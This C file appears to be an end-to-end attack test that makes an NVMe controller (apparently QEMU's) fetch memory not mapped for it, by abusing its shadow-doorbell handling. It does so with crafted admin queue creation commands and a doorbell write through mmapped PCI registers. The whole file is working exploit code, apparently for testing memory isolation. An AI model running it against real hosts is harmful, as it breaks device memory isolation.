/*
 * bad_queue controller=/dev/nvme0 registers=/sys/…/resource0: has an NVMe controller (PCI) read memory that is not mapped for it. A queue is
 * made at a buffer that the driver maps for the command alone, and its doorbell is rung when that is over. Prints
 *   {"fault_ns": just before}
 *
 * QEMU's controller takes the queue's tail not from the doorbell, but from where the driver has it keep its doorbells in memory: one
 * page, 8 bytes a queue. QUEUE's would be behind that page, and that is the driver's queue of admin commands: the second of those is what the
 * tail is taken from. So it is not 0, and the controller goes to fetch a command. (What it writes for QUEUE lies in the page in front, where
 * a queue of number 8 would have its doorbell.)
 */
#include <fcntl.h>
#include <inttypes.h>
#include <linux/nvme_ioctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "tests/e2e/attack/attack.h"

#define PAGE    4096
#define QUEUE   (PAGE / 8 + 8)
#define ENTRIES 64
#define BUFFER_BYTES                                                                                         \
	65536 /* of a size that nothing else maps, so that its addresses are not given to others */
#define DOORBELL_AT (0x1000 + 8 * QUEUE)

enum { CREATE_SUBMISSION = 1, CREATE_COMPLETION = 5, CONTIGUOUS = 1 };

static void create(int controller, void *buffer, unsigned char opcode, unsigned int flags)
{
	struct nvme_admin_cmd command = { .opcode = opcode,
		                          .addr = (uintptr_t)buffer,
		                          .data_len = BUFFER_BYTES,
		                          .cdw10 = QUEUE | (ENTRIES - 1) << 16,
		                          .cdw11 = flags };

	must(ioctl(controller, NVME_IOCTL_ADMIN_CMD, &command) == 0, "create a queue");
}

int main(int argc, char **argv)
{
	int controller = open(argument_text(argc, argv, "controller", ""), O_RDWR);
	int registers = open(argument_text(argc, argv, "registers", ""), O_RDWR);
	volatile uint32_t *doorbells; /* a page of them */
	void *buffer = aligned_buffer(BUFFER_BYTES);

	must(controller >= 0 && registers >= 0, "open");
	doorbells =
	        mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, registers, DOORBELL_AT / PAGE * PAGE);
	must(doorbells != MAP_FAILED, "map the registers");
	create(controller, buffer, CREATE_COMPLETION, CONTIGUOUS);
	create(controller, buffer, CREATE_SUBMISSION, CONTIGUOUS | QUEUE << 16);
	printf("{\"fault_ns\": %" PRIu64 "}\n", monotonic_ns());
	doorbells[DOORBELL_AT % PAGE / sizeof(*doorbells)] = 1;
	return 0;
}
